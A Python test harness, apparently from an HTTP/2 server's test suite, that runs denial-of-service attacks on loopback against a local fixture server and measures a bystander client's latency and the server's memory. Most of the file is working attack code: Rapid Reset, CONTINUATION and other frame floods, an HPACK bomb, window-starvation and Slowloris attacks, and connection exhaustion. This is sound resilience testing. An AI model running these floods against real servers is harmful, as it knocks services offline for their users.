"""Attacks on the data port, and a well-behaved client (the bystander) at the same time.

    python abuse.py attack NAME ADDRESS SECONDS SHARE
        runs one attack and prints its results as JSON
    python abuse.py [--seconds S] [NAME...]
        runs each attack against a new server, measures the bystander before, during and after,
        and prints the table (`make abuse`)

All traffic is on loopback and bounded in time.
"""

import argparse
import collections
import json
import os
import pathlib
import resource
import select
import socket
import statistics
import struct
import subprocess
import sys
import time

HERE = pathlib.Path(__file__).resolve().parent
sys.path[:0] = [str(HERE), str(HERE.parents[1] / "Benchmarks")]

import frames  # noqa: E402
from peer import (  # noqa: E402
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, Peer, message, request_fields)

BLOCK = frames.header_block(request_fields())
WAIT = frames.header_block(request_fields("/test.Raw/Wait"))
DOWNLOAD = frames.header_block(request_fields("/test.Raw/Download"))
frame = frames.frame


# Attacks. Each yields the bytes to send on a new connection, until the connection ends.


def rapid_reset():
    """CVE-2023-44487: requests that the client resets at once."""
    stream = 1
    while stream < 1 << 30:
        parts = []
        for _ in range(200):
            parts.append(frame(HEADERS, END_HEADERS, stream, WAIT))
            parts.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
            stream += 2
        yield b"".join(parts)


def made_you_reset():
    """CVE-2025-8671: requests that make the server reset them, by a window overflow."""
    stream = 1
    while stream < 1 << 30:
        parts = []
        for _ in range(200):
            parts.append(frame(HEADERS, END_HEADERS, stream, WAIT))
            parts.append(frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff"))
            stream += 2
        yield b"".join(parts)


def continuation_flood():
    """CVE-2024-28182: a header block without end."""
    yield frame(HEADERS, 0, 1, BLOCK)
    part = frame(CONTINUATION, 0, 1, frames.header_block([("x-more", "1")])) * 500
    while True:
        yield part


def settings_flood():
    """CVE-2019-9515."""
    part = frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 1_000
    while True:
        yield part


def ping_flood():
    """CVE-2019-9512."""
    part = frame(PING, 0, 0, b"12345678") * 1_000
    while True:
        yield part


def priority_flood():
    """CVE-2019-9513: a dependency tree that changes constantly."""
    parts = []
    for number in range(1_000):
        parent = 2 * ((number + 7) % 999) + 2001
        parts.append(frame(PRIORITY, 0, 2 * number + 1, struct.pack(">IB", parent, 200)))
    while True:
        yield b"".join(parts)


def empty_data_flood():
    """CVE-2019-9518: empty DATA frames."""
    yield frame(HEADERS, END_HEADERS, 1, BLOCK)
    part = frame(DATA, 0, 1) * 1_000
    while True:
        yield part


def window_update_flood():
    part = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1_000
    while True:
        yield part


def unknown_frame_flood():
    part = frame(0xBE, 0, 0) * 1_000
    while True:
        yield part


def empty_headers_flood():
    """CVE-2019-9516: headers without names and values."""
    stream = 1
    while stream < 1 << 30:
        parts = []
        for _ in range(50):
            empty = b"\x00\x00\x00" * 100
            parts.append(frame(HEADERS, END_HEADERS | END_STREAM, stream, BLOCK + empty))
            stream += 2
        yield b"".join(parts)


def hpack_bomb():
    """One long field in the dynamic table, and headers that reference it thousands of times."""
    big = b"\x40" + b"\x06x-bomb" + b"\x7f" + b"\x81\x1e" + b"a" * 3_968
    stream = 1
    yield frame(HEADERS, END_HEADERS | END_STREAM, stream, BLOCK + big)
    while stream < 1 << 30:
        stream += 2
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, BLOCK + b"\xbe" * 16_000)


def zero_window():
    """CVE-2019-9511 and 9517: large answers, and a window that never opens."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    for stream in range(1, 201, 2):
        yield frame(HEADERS, END_HEADERS, stream, DOWNLOAD) + frame(
            DATA, END_STREAM, stream, message(b"1000 100000"))
    while True:
        time.sleep(0.05)
        yield b""


def data_dribble():
    """CVE-2019-9511: responses read one byte at a time."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    for stream in range(1, 201, 2):
        yield frame(HEADERS, END_HEADERS, stream, DOWNLOAD) + frame(
            DATA, END_STREAM, stream, message(b"1000 100000"))
    while True:
        yield b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1))
                       for stream in range(1, 201, 2))


def byte_dribble():
    """Requests sent one byte of DATA at a time."""
    for stream in range(1, 401, 2):
        yield frame(HEADERS, END_HEADERS, stream, BLOCK) + frame(
            DATA, 0, stream, message(bytes(100_000))[:5])
    while True:
        yield b"".join(frame(DATA, 0, stream, b"x") for stream in range(1, 401, 2))


def garbage():
    block = os.urandom(4_096)
    while True:
        yield block


def tls_to_plaintext():
    while True:
        yield bytes.fromhex("160301020001000001fc0303") + os.urandom(500)


def slow_http1():
    """Slowloris: a head that never ends."""
    yield b"POST /dynamic HTTP/1.1\r\nhost: x\r\n"
    while True:
        time.sleep(0.02)
        yield b"x-more: 1\r\n"


FLOODS = [
    rapid_reset, made_you_reset, continuation_flood, settings_flood, ping_flood, priority_flood,
    empty_data_flood, window_update_flood, unknown_frame_flood, empty_headers_flood, hpack_bomb,
    zero_window, data_dribble, byte_dribble, garbage, tls_to_plaintext, slow_http1]
RAW = {garbage, tls_to_plaintext, slow_http1}


class Flood:
    """One attack, on sequential connections."""

    def __init__(self, attack, address):
        self.attack, self.address = attack, address
        self.connections, self.sent = 0, 0
        self.ends = collections.Counter()

    def run(self, seconds):
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            self._connection(until)

    def _connection(self, until):
        host, port = self.address.rsplit(":", 1)
        with socket.create_connection((host, int(port)), timeout=5) as connection:
            connection.setblocking(False)
            self.connections += 1
            received = b""
            greeting = b"" if self.attack in RAW else frames.PREFACE + frame(SETTINGS, 0, 0)
            pieces = self.attack()
            waiting = greeting
            while time.monotonic() < until:
                if not waiting:
                    waiting = next(pieces)
                try:
                    readable, _, _ = select.select(
                        [connection], [connection] if waiting else [], [], 0.1)
                    if readable:
                        part = connection.recv(1 << 16)
                        if not part:
                            break
                        received = (received + part)[-(1 << 16):]
                    if waiting:
                        count = connection.send(waiting)
                        self.sent += count
                        waiting = waiting[count:]
                except BlockingIOError:
                    continue
                except OSError:
                    break
            else:
                self.ends["stayed"] += 1
                return
            self.ends[self._end(received)] += 1

    @staticmethod
    def _end(received):
        """The reason of a GOAWAY, if it is the last frame."""
        for reason in (b"too_many_pings", b"too_many_resets", b"too_many_frames_without_content"):
            if received.endswith(reason):
                return reason.decode()
        if len(received) >= 17:
            for length in range(8, 200):
                head = received[-9 - length:-length]
                if head[3:4] == bytes([GOAWAY]) and head[:3] == length.to_bytes(3, "big"):
                    return f"GOAWAY {struct.unpack('>I', received[-length + 4:][:4])[0]}"
        return "closed"


class Crowd:
    """Idle or nearly idle connections that stay open."""

    def __init__(self, address, count, beginning, source="127.0.0.9"):
        self.address, self.count, self.beginning, self.source = address, count, beginning, source
        self.connections, self.sent = 0, 0
        self.ends = collections.Counter()

    def run(self, seconds):
        host, port = self.address.rsplit(":", 1)
        held = []
        for _ in range(self.count):
            connection = socket.socket()
            # IP_BIND_ADDRESS_NO_PORT: `connect` selects the port, which is faster.
            connection.setsockopt(socket.IPPROTO_IP, 24, 1)
            connection.bind((self.source, 0))
            connection.connect((host, int(port)))
            if self.beginning:
                connection.sendall(self.beginning)
                self.sent += len(self.beginning)
            held.append(connection)
        self.connections = len(held)
        print(json.dumps({"held": len(held)}), flush=True)
        time.sleep(seconds)
        gone = 0
        for connection in held:
            connection.setblocking(False)
            try:
                while part := connection.recv(1 << 16):
                    pass
                gone += 1
            except BlockingIOError:
                pass
            except OSError:
                gone += 1
            connection.close()
        self.ends["closed"], self.ends["stayed"] = gone, len(held) - gone


CROWDS = {
    "idle_connections": (10_000, frames.PREFACE + frame(SETTINGS, 0, 0)
                         + frame(HEADERS, END_HEADERS, 1, BLOCK)
                         + frame(DATA, END_STREAM, 1, message(b"x"))),
    "half_open": (5_000, frames.PREFACE[:10]),
    "silent_connections": (5_000, b""),
}
NAMES = [attack.__name__ for attack in FLOODS] + list(CROWDS)


def attack(name, address, seconds, share=1.0):
    """Runs an attack with `nice`, so that its own work does not slow down other processes."""
    os.nice(19)
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    if name in CROWDS:
        count, beginning = CROWDS[name]
        one = Crowd(address, int(count * share), beginning)
    else:
        one = Flood(next(attack for attack in FLOODS if attack.__name__ == name), address)
    one.run(seconds)
    return {"connections": one.connections, "sent": one.sent, "ends": dict(one.ends)}


class Attack:
    """An attack in its own process."""

    def __init__(self, name, address, seconds, share=1.0):
        self.process = subprocess.Popen(
            [sys.executable, HERE / "abuse.py", "attack", name, address, str(seconds), str(share)],
            stdout=subprocess.PIPE, text=True)
        if name in CROWDS:
            # The measurement starts when all connections are open.
            self.process.stdout.readline()

    def result(self):
        return json.loads(self.process.communicate(timeout=120)[0].splitlines()[-1])


class Bystander:
    """Sequential requests on one connection; each response must be correct."""

    def __init__(self, address):
        self.peer = Peer(address, timeout=30)
        self.stream, self.read = 1, 0

    def call(self):
        """Seconds."""
        start = time.perf_counter()
        self.peer.request(self.stream, body=b"well-behaved")
        _, body = self.peer.response(self.stream)
        assert body == message(b"well-behaved")
        self.stream += 2
        # It credits received bytes from time to time, as clients do.
        self.read += len(body)
        if self.read > 16_384:
            self.peer.window(0, self.read)
            self.read = 0
        return time.perf_counter() - start

    def measure(self, seconds):
        """Latencies, with about one request per millisecond."""
        end, latencies = time.monotonic() + seconds, []
        while time.monotonic() < end:
            latencies.append(self.call())
            time.sleep(0.001)
        return latencies


def measure(name, server, seconds, share=1.0, lasts=None):
    """Runs an attack, or a share of its connections, and a bystander. Returns the results of the
    attack, the bystander's latencies before, during and after in seconds, and the server's memory
    before, at most and after in bytes. The attack lasts a second longer than the measurement, or as
    long as given.
    """
    # Imported here, because the attacking processes do not need it.
    from conftest import memory as memory_of
    bystander = Bystander(server.data)
    bystander.measure(0.5)
    base = memory_of(server.process)
    before = bystander.measure(seconds)
    running = Attack(name, server.data, lasts or seconds + 1, share)
    peak, during = base, []
    time.sleep(0.3)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        during += bystander.measure(seconds / 10)
        peak = max(peak, memory_of(server.process))
    result = running.result()
    after = bystander.measure(seconds)
    return result, [before, during, after], [base, peak, memory_of(server.process)]


def quantile(values, q):
    return sorted(values)[min(len(values) - 1, int(len(values) * q))]


def main():
    from conftest import BUILD, Server
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("names", nargs="*", metavar="NAME")
    arguments = parser.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    unfair = []
    print(f"{'ATTACK':22} {'BYSTANDER p50 (p99), us':42} {'MEMORY, MiB':22} {'WHAT BECAME OF IT'}")
    for name in arguments.names or NAMES:
        server = Server([str(BUILD / "FixtureServer"), "1"])
        server.data, server.admin = server.first_line.split()
        try:
            result, latencies, memory = measure(name, server, arguments.seconds)
        except BaseException:
            server.stop()
            raise
        medians = [statistics.median(part) for part in latencies]
        text = "  ".join(
            f"{median * 1e6:.0f} ({quantile(part, .99) * 1e6:.0f})"
            for median, part in zip(medians, latencies))
        ends = ", ".join(f"{count} {end}" for end, count in result["ends"].items() if count)
        sizes = " > ".join(f"{size >> 20}" for size in memory)
        print(f"{name:22} {text:42} {sizes:22} {ends}", flush=True)
        if medians[1] > 2 * max(medians[0], medians[2]):
            unfair.append(name)
        if server.stop() != 0:
            print(server.process.stderr.read()[-5000:])
            unfair.append(name)
    for name in unfair:
        print(f"{name}: the bystander took more than twice its quiet time, or the server failed")
    return 1 if unfair else 0


if __name__ == "__main__":
    if len(sys.argv) > 2 and sys.argv[1] == "attack":
        done = attack(sys.argv[2], sys.argv[3], float(sys.argv[4]), float(sys.argv[5]))
        print(json.dumps(done), flush=True)
    else:
        sys.exit(main())
